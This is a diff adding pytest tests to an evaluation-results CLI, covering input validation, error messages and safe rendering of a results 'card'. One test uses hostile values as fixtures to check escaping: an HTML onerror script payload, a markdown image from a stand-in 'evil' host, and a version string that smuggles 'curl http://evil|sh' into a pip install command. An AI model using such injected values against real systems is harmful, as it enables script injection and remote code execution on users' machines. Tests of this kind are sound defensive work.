@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import base64
 import json
+import subprocess
+import sys
 from collections.abc import Callable
 from pathlib import Path
 from types import SimpleNamespace
@@ -126,6 +128,52 @@ def test_the_results_may_be_elsewhere_under_another_name(run: Run, statement: Pa
     assert run("verify", statement, elsewhere / "2026.json").status == 0
     changed(elsewhere / "2026.json", lambda r: r["gates"].clear())
     assert run("verify", statement, elsewhere / "2026.json").status == 1
+
+
+def test_a_statement_with_a_number_for_its_files_is_refused(run: Run, statement: Path) -> None:
+    changed(statement, lambda s: s["predicate"].update(configuration=1.5))
+    found = run("verify", statement)
+    assert found.status == 4
+    assert found.err.endswith("'configuration' is not a list\n")
+
+
+@pytest.mark.parametrize("format_", ["in-toto", "eee", "lm-eval"])
+def test_a_run_that_started_at_no_time_is_one_line(run: Run, saved: Path, format_: str) -> None:
+    changed(saved, lambda r: r["run"].update(started="a/b"))
+    found = run("export", saved, f"--format={format_}", "-o", "x.json")
+    assert (found.status, found.err.count("\n")) == (4, 1)
+    assert "run.started: expected a time in ISO 8601, found 'a/b'" in found.err
+
+
+def test_texts_of_a_results_file_are_texts_on_a_card(run: Run, saved: Path) -> None:
+    hostile = "<img src=x onerror=alert(1)>\n# Injected ![x](http://evil/p.png)"
+    version = "0.1; curl http://evil|sh #"
+    changed(saved, lambda r: r["run"].update(plugin_version=version, started="[a](//b.c)"))
+    changed(saved, lambda r: r["run"]["model"].update(name=hostile))
+    card = run("card", saved).out
+    for line in card.splitlines():
+        assert not line.startswith("# ")
+        assert line.count("<img") == line.count("`<img") or "`" in line.partition("<img")[0]
+    assert "pip install 'pytest-trustllm==0.1; curl http://evil|sh #'" in card
+    assert "on `[a](//b.c)`." in card
+
+
+@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs a device that is always full")
+def test_a_full_disk_behind_the_output_is_one_line(saved: Path) -> None:
+    with Path("/dev/full").open("w") as full:
+        command = [sys.executable, "-m", "pytest_trustllm.cli", "card", str(saved)]
+        done = subprocess.run(command, stdout=full, stderr=subprocess.PIPE, text=True, check=False)
+    assert (done.returncode, done.stderr) == (4, "ERROR: standard output cannot be written: No space left on device\n")
+
+
+def test_a_response_with_a_field_of_a_newer_version_is_read(run: Run, saved: Path) -> None:
+    samples = saved.with_name("r.samples.jsonl")
+    line = json.loads(samples.read_text())
+    for response in line["responses"]:
+        response["newer"] = 1
+    samples.write_text(json.dumps(line) + "\n")
+    assert run("export", saved, "--format=in-toto", "-o", "statement.json", "--valid-days=36500").status == 0
+    assert (run("verify", "statement.json").status, run("verify", saved).err.count("Traceback")) == (0, 0)
 
 
 def test_a_statement_that_says_more_than_its_results_is_refused(run: Run, statement: Path) -> None:
